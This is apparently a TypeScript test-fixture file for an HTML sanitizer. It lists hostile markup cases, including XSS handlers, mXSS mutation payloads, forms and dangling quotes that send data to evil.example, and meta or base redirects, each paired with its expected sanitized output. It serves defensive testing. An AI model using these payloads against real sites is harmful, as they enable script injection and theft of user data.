import type { HostileHtml } from './hostile-html-case.ts';

/** Forms, frames, broken markup and markup that mutates when it is parsed again (mXSS). */
export const hostileMarkup: readonly HostileHtml[] = [
  {
    name: 'a form that posts elsewhere',
    html: '<form action="https://evil.example/steal" method=post><p>Password</p><input name=p type=password><button formaction="https://evil.example/b">Go</button></form>',
    shown: '<div><p>Password</p>Go</div>',
  },
  {
    name: 'an input with a picture and a handler',
    html: '<p>Hi</p><input type=image src="https://evil.example/i.png" onfocus=alert(1) autofocus>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a text area and a choice',
    html: '<p>Hi</p><textarea autofocus onfocus=alert(1)></textarea><select onchange=alert(1)><option>one</option></select>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a base address',
    html: '<base href="https://evil.example/" target=_top><p>Hi</p><a href="login">x</a>',
    shown: '<p>Hi</p><span>x</span>',
  },
  { name: 'a frame', html: '<p>Hi</p><iframe src="https://evil.example/"></iframe>', shown: '<p>Hi</p>' },
  {
    name: 'a frame with its own document',
    html: '<p>Hi</p><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a frameset',
    html: '<frameset onload=alert(1)><frame src="https://evil.example/"></frameset><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'an object, an embed and an applet',
    html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="x"></applet><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a video with a poster and a sound',
    html: '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a portal, a fenced frame and a dialog',
    html: '<portal src="https://evil.example/"></portal><fencedframe></fencedframe><dialog open>x</dialog><p popover>Hi</p>',
    shown: '<div>x</div><p>Hi</p>',
  },
  {
    name: 'a template and a declared shadow root',
    html: '<p>Hi</p><template><script>alert(1)</script></template><div><template shadowrootmode=open><img src="https://evil.example/a.png"></template></div>',
    shown: '<p>Hi</p><div></div>',
  },
  {
    name: 'a custom element with a handler',
    html: '<p is="x-evil" slot="y" part="z" contenteditable inert>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'conditional comments',
    html: '<!--[if mso]><script>alert(1)</script><![endif]--><p>Hi</p><!--[if gte IE 4]><img src=x onerror=alert(1)><![endif]-->',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a comment that ends early',
    html: '<!--><img src=x onerror=alert(1)>--><p>Hi</p>',
    shown: '<span></span>--&gt;<p>Hi</p>',
  },
  {
    name: 'a comment that ends with an exclamation mark',
    html: '<!-- --!><img src=x onerror=alert(1)>--><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a processing instruction and CDATA',
    html: '<?xml version="1.0"?><![CDATA[<script>alert(1)</script>]]><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a mutation through noscript',
    html: '<p>Hi</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a mutation through style in SVG',
    html: '<p>Hi</p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a mutation through MathML text',
    html: '<p>Hi</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a mutation through form nesting',
    html: '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>"></form><p>Hi</p>',
    shown: '<div></div><div></div><p>Hi</p>',
  },
  {
    name: 'a mutation through a title',
    html: '<p>Hi</p><svg><title><style><img title="</style><img src=x onerror=alert(1)>"></style></title></svg>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a mutation through xmp and plaintext',
    html: '<p>Hi</p><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    shown: '<p>Hi</p><span></span>"&gt;',
  },
  { name: 'a quote that swallows what follows', html: '<p>Hi</p><img src="https://evil.example/?', shown: '<p>Hi</p>' },
  {
    name: 'a quote left open around a secret',
    html: `<p>Hi</p><a href='https://evil.example/?x=<p>secret</p>`,
    shown: '<p>Hi</p>',
  },
  { name: 'an attribute with no end', html: '<p>Hi</p><div title="<img src=x onerror=alert(1)>', shown: '<p>Hi</p>' },
  {
    name: 'twice the same attribute',
    html: '<a href="https://a.example/" href="javascript:alert(1)">Hi</a>',
    shown: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">Hi</a>',
  },
  {
    name: 'attributes glued together',
    html: '<a href="https://a.example/"onclick="alert(1)"style="position:fixed">Hi</a>',
    shown: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">Hi</a>',
  },
  {
    name: 'names that an object knows',
    html: '<p __proto__="x" constructor="y" hasownproperty="z" toString="w">Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'elements named like what an object knows',
    html: '<constructor>Hi</constructor><__proto__>you</__proto__>',
    shown: 'Hi&lt;__proto__&gt;you',
  },
  {
    name: 'marks for elements of the page around',
    html: '<p id="root" class="admin" name="csrf" data-action="delete">Hi</p>',
    shown: '<p>Hi</p>',
  },
  { name: 'text written backwards', html: '<p>\u202eexe.tnemyap\u202c</p>', shown: '<p>exe.tnemyap</p>' },
  { name: 'a bidirectional element', html: '<p><bdo dir="rtl">Hi</bdo></p>', shown: '<p>Hi</p>' },
  {
    name: 'an address of a picture in an unknown scheme',
    html: '<p>Hi</p><img src="cid:nobody@evil.example" alt="A cat"><img src="ftp://evil.example/x.png">',
    shown: '<p>Hi</p>[A cat]<span></span>',
  },
  {
    name: 'a link element that prefetches',
    html: '<link rel=prefetch href="https://evil.example/"><link rel=preconnect href="https://evil.example"><p>Hi</p>',
    shown: '<p>Hi</p>',
  },
  {
    name: 'a manifest and a profile on the document',
    html: '<html manifest="https://evil.example/m" xmlns="x"><head profile="https://evil.example/"></head><body><p>Hi</p></body></html>',
    shown: '<div><p>Hi</p></div>',
  },
  {
    name: 'quoting with a source to fetch',
    html: '<blockquote cite="https://evil.example/"><q cite="https://evil.example/">Hi</q><ins cite="javascript:alert(1)">x</ins></blockquote>',
    shown: '<blockquote><q>Hi</q><ins>x</ins></blockquote>',
  },
  {
    name: 'an image map',
    html: '<img usemap="#m" src="https://evil.example/m.png" alt="Map"><map name=m><area shape=rect coords="0,0,9,9" href="javascript:alert(1)"></map>',
    shown: '[Map]',
  },
  {
    name: 'a ruby with a handler',
    html: '<ruby onclick=alert(1)>Hi<rt>there</rt></ruby>',
    shown: '<ruby>Hi<rt>there</rt></ruby>',
  },
  {
    name: 'numbers out of all proportion',
    html: '<table width="99999999" height="-5" cellpadding="1e9"><tr><td colspan="100000" style="padding:99999px;margin:-900px">Hi</td></tr></table>',
    shown: '<table><tr><td>Hi</td></tr></table>',
  },
];
